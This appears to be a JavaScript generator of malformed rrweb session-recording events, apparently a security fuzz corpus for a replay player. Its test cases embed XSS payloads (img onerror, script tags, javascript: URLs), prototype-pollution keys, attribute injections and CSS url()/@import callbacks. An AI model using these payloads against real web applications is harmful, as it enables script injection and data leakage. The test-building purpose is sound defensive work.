  put("fonts", (u) => [...page([el("p", { style: "font-family:hf" }, [text("x")])]), at({ source: 10, family: "hf", fontSource: `url(${u()})`, buffer: false }), at({ source: 10, family: "hf", fontSource: `u\\72l("${u("2")}")`, descriptors: { display: "swap" } }), at({ source: 10, family: "hf", fontSource: "4000000000", buffer: true }), at({ source: 10, family: "hf", fontSource: "[1,2,{}]", buffer: 1 }), at({ source: 10, family: "hf", fontSource: [`url(${u("3")})`], buffer: false })]);
  put("canvas commands", (u) => [...page([el("canvas", { width: "50", height: "50" }, [], { id: 50 })]), at({ source: 9, id: 50, type: 0, commands: [{ property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: u() }, 0, 0] }, { property: "constructor", args: ["alert(1)"] }, { property: "fillStyle", args: ["red"], setter: true }, { property: "__proto__", args: [{ polluted: 1 }], setter: true }, { property: "canvas", args: [1], setter: true }] }), at({ source: 9, id: 50, type: 1, property: "texImage2D", args: [{ rr_type: "HTMLImageElement", src: u("gl") }] })]);
  put("assets", (u) => [...page([el("img", { src: u() })]), { type: 7, data: { url: u(), payload: { rr_type: "Blob", data: u(), type: "text/html" } }, timestamp: T0 + 50 }]);
  put("custom and plugin events", (u) => [...page([text("x")]), { type: 5, data: { tag: `<img src=${u("t")} onerror=alert(1)>`, payload: { href: "javascript:alert(1)", html: `<script>alert(1)</script>`, url: u("p"), __proto__: null } }, timestamp: T0 + 50 }, { type: 5, data: { tag: "__proto__", payload: { polluted: true } }, timestamp: T0 + 51 }, { type: 6, data: { plugin: "rrweb/console@1", payload: { level: "log", trace: [u("trace")], payload: [`"<img src=${u("c")}>"`, "%c x", `"background:url(${u("css")})"`] } }, timestamp: T0 + 52 }, { type: 6, data: { plugin: "rrweb/network@1", payload: { requests: [{ name: u("net"), initiatorType: "javascript:alert(1)" }] } }, timestamp: T0 + 53 }]);
  put("page addresses", (u) => [{ type: 4, data: { href: "javascript:alert(document.domain)", width: 1e9, height: -5 }, timestamp: T0 }, ...page([text("x")]).slice(1), { type: 4, data: { href: u(), width: "100%", height: null }, timestamp: T0 + 60 }, ...page([img(u)]).slice(1)]);
  put("keys that name prototypes", (u) => { const e = page([el("div", {}, [text("x")], { id: 50 })]); return [...e, JSON.parse(`{"type":3,"timestamp":${T0 + 50},"__proto__":{"polluted":1},"data":{"source":0,"__proto__":{"polluted":1},"texts":[],"removes":[],"adds":[{"parentId":5,"nextId":null,"node":{"type":2,"tagName":"img","attributes":{"__proto__":{"src":"${u("a")}","onerror":"alert(1)"},"constructor":"x","style":{"__proto__":{"background":"url(${u("s")})"}}},"childNodes":[],"id":60,"__proto__":{"isSVG":true}}}],"attributes":[{"id":50,"attributes":{"__proto__":{"onclick":"alert(1)","src":"${u("b")}"},"style":{"__proto__":{"background":"url(${u("c")})"},"constructor":["x"]}}},{"id":"__proto__","attributes":{"polluted":"1"}}]}}`)]; });
  put("numbers that are huge", (u) => [...page([img(u), el("video", { rr_mediaCurrentTime: 1e308, rr_mediaPlaybackRate: 1e308, rr_scrollTop: 1e308, rr_width: "1e308px", rr_height: "99999999999px" }, [], { id: 51 })]), at({ source: 3, id: 1, x: 1e308, y: -1e308 }), at({ source: 4, width: 1e12, height: 1e12 }), at({ source: 1, positions: [{ x: 1e308, y: 1e308, id: 50, timeOffset: -1e9 }] }), at({ source: 2, type: 1e9, id: 50, x: 1, y: 1 }), at({ source: 7, id: 51, type: 99, currentTime: 1e308, volume: 7, playbackRate: -1 })]);
  put("numbers of nodes that are none", (u) => [...page([el("div", {}, [img(u, -7), img(u, 1e300), img(u, 0.5), img(u, "50"), img(u, null), img(u, { a: 1 }), img(u, [5])], { id: 40 })]), mutation({ attributes: [{ id: "50", attributes: { src: u("s") } }, { id: -7, attributes: { src: u("m") } }, { id: 1e300, attributes: { src: u("h") } }, { id: null, attributes: { src: u("l") } }], texts: [{ id: [1], value: "x" }, { id: "x", value: u() }] })]);
  put("numbers beyond what can be told apart", (u) => [...page([el("style", {}, [text("b{}", { id: 9007199254740993 })], { id: 9007199254740992 })]), mutation({ texts: [{ id: 9007199254740992, value: `@import "${u()}"` }] })]);
  put("the same number twice", (u) => [...page([el("div", {}, [], { id: 50 }), el("style", {}, [], { id: 50 }), img(u, 50), el("iframe", {}, [], { id: 50 })]), change(50, { src: u(), onload: "alert(1)" }), add(text(`@import "${u("2")}"`), 50, 60)]);
  put("a node in itself", (u) => { const inner = el("div", { a: "1" }, [], { id: 50 }); const e = page([el("div", { a: "1" }, [inner], { id: 50 })]); return [...e, mutation({ adds: [{ parentId: 50, nextId: 50, node: el("div", {}, [], { id: 50 }) }, { parentId: 61, nextId: null, node: el("p", {}, [], { id: 60 }) }, { parentId: 60, nextId: null, node: el("p", {}, [], { id: 61 }) }, { parentId: 62, nextId: null, node: img(u, 62) }] })]; });
  put("moved under its own child", (u) => [...page([el("div", {}, [el("p", {}, [el("b", {}, [], { id: 52 })], { id: 51 })], { id: 50 })]), mutation({ removes: [{ id: 50, parentId: 5 }], adds: [{ parentId: 52, nextId: null, node: el("div", {}, [], { id: 50 }) }] }), mutation({ removes: [{ id: 1 }, { id: 3, parentId: 1 }, { parentId: 9 }], adds: [{ parentId: 1, nextId: null, node: el("html", { onload: "alert(1)" }, [img(u, 90)], { id: 3 }) }] })]);
  put("deep", (u) => { let n = img(u, 300); for (let i = 0; i < 45; i++) n = el("div", { style: `background:url(${u("d" + i)})` }, [n], { id: 200 + i }); return page([n]); });
  put("wide", (u) => page(Array.from({ length: 3000 }, (_, i) => el("b", { title: "x", onclick: "alert(1)" }, i === 2999 ? [img(u, 9999)] : []))));
  put("types of nodes that are none", (u) => page([{ type: 9, tagName: "img", attributes: { src: u("9") }, childNodes: [], id: 50 }, { type: "2", tagName: "img", attributes: { src: u("s") }, childNodes: [], id: 51 }, { type: [2], tagName: "img", attributes: { src: u("l") }, childNodes: [], id: 52 }, { type: 2.5, id: 53 }, { id: 54 }, null, 7, "x", [img(u, 55)], { type: 2, id: 56 }, { type: 3, id: 57 }, { type: 2, tagName: "img", attributes: [["src", u("a")]], childNodes: {}, id: 58 }, { type: 2, tagName: "img", attributes: `src=${u("t")}`, childNodes: "x", id: 59 }]));
  put("a page that is no document", (u) => { const e = page([img(u)]); e[1].data.node = img(u, 1); return e; });
  put("a page that is text", (u) => [...page([img(u)]), { type: 2, data: { node: text(u()), initialOffset: null }, timestamp: T0 + 20 }, { type: 2, data: { node: null }, timestamp: T0 + 21 }, { type: 2, data: {}, timestamp: T0 + 22 }, { type: 2, data: u(), timestamp: T0 + 23 }, { type: 2, timestamp: T0 + 24 }]);
  put("mutations whose lists are none", (u) => [...page([img(u)]), ...[null, 7, "x", {}, [null], [[]], [7], ["x"]].map((v) => mutation({ adds: v, texts: v, attributes: v, removes: v })), at({ source: 8, id: 50, adds: [{ rule: [`p{background:url(${u()})}`] }, null] }), at({ source: 15, id: 1, styles: [{ rules: "x" }, null], styleIds: [1] }), at({ source: 13, id: 50, set: "x" }), at({ source: 13, id: 50, set: { property: 7, value: 7 } })]);
  put("input into anything", (u) => [...page([el("input", { type: "text" }, [], { id: 50 }), el("input", { type: "file" }, [], { id: 51 }), el("script", {}, [], { id: 52 }), el("object", {}, [], { id: 53 }), el("a", {}, [], { id: 54 })]), ...[50, 51, 52, 53, 54, 1, 5].flatMap((id) => [at({ source: 5, id, text: `"><img src=${u()} onerror=alert(1)>`, isChecked: true }), at({ source: 5, id, text: { toString: 1 }, isChecked: [] })])]);
  put("clicks, focus and selection", (u) => [...page([el("a", { href: u(), target: "_top" }, [text("x")], { id: 50 }), el("input", { autofocus: "" }, [], { id: 51 })]), ...[0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, -1, 99, "Click", "constructor", null].flatMap((type) => [50, 51, 1].map((id) => at({ source: 2, type, id, x: 5, y: 5, pointerType: 99 }))), at({ source: 14, ranges: [{ start: 50, startOffset: 0, end: 1, endOffset: 1e9 }, null] }), at({ source: 12, positions: null }), at({ source: 16, define: { name: "script" } }), at({ source: 11, level: "log", payload: [u()] }), at({ source: 99 }), at({ source: "0", adds: [{ parentId: 5, node: img(u, 70) }] })]);
  put("clipboard and titles", () => [...page([el("button", { onclick: "navigator.clipboard.writeText('stolen')", autofocus: "" }, [text("x")], { id: 50 }), el("title", {}, [text("stolen")], { id: 51 })], [el("title", {}, [text("stolen")])]), at({ source: 2, type: 2, id: 50, x: 1, y: 1 }), mutation({ texts: [{ id: 52, value: "stolen" }] })]);
  put("script attributes that change later", (u) => [...page([el("script", {}, [], { id: 50 }), el("object", {}, [], { id: 51 }), el("iframe", {}, [], { id: 52 }), el("link", {}, [], { id: 53 }), el("base", {}, [], { id: 54 }), el("embed", {}, [], { id: 55 }), el("form", {}, [], { id: 56 }), el("img", {}, [], { id: 57 }), el("video", {}, [], { id: 58 }), el("input", { type: "image" }, [], { id: 59 })]), ...[50, 51, 52, 53, 54, 55, 56, 57, 58, 59].map((id) => change(id, { src: u("s") + id, href: u("h") + id, data: u("d") + id, rel: "stylesheet", srcdoc: `<img src=${u("o")}>`, action: u("a"), srcset: u("t"), poster: u("p"), "http-equiv": "refresh", ping: u("g"), formaction: u("f"), background: u("b") }))]);
  put("a script's text that comes later", (u) => [...page([el("script", {}, [], { id: 50 }), el("noscript", {}, [], { id: 51 })]), add(text("alert(1)"), 50, 60), add(text(`<img src=${u()}>`), 51, 61)]);
  put("several snapshots", (u) => [...page([el("style", {}, [], { id: 50 })]), ...page([el("div", {}, [], { id: 50 }), el("style", {}, [], { id: 51 })]).map((e) => ({ ...e, timestamp: T0 + 30 })), mutation({ adds: [50, 51].map((parentId) => ({ parentId, nextId: null, node: text(`@import "${u(String(parentId))}"`, { id: parentId + 20 }) })) })]);
  put("times that go back and stand still", (u) => [...page([img(u)]), { ...add(img(u, 60)), timestamp: 0 }, { ...add(img(u, 61)), timestamp: 253402300799999 }, { ...add(img(u, 62)), delay: -1e9 }]);
}

fetches();
meta();
handlers();
links();
vectors();
mutating();
style();
events();

/* [{n, name, events}], n from 1. */
export const recordings = all;

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const dir = process.argv[2] === "--seeds" ? process.argv[3] : null;
  if (dir === null) console.log(JSON.stringify(recordings));
  else {
    mkdirSync(dir, { recursive: true });
    for (const r of recordings) writeFileSync(`${dir}/${String(r.n).padStart(3, "0")}`, r.events.map((e) => JSON.stringify(e)).join("\n") + "\n");
    console.log(`${recordings.length} recordings`);
  }
}
